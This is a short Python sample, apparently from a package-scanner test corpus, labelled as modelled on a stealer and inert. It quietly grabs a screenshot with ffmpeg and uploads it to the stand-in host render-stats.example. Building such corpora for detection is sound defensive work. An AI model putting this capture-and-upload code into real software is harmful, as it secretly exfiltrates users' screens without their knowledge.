# pkgguard corpus 639 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import tempfile

import requests

out = os.path.join(tempfile.gettempdir(), "frame.jpg")
subprocess.run(
    ["ffmpeg", "-loglevel", "quiet", "-f", "avfoundation", "-i", "1", "-frames:v", "1", "-y", out],
    check=False,
)
if os.path.exists(out):
    with open(out, "rb") as fh:
        requests.post("https://render-stats.example/f", files={"f": fh}, timeout=20)
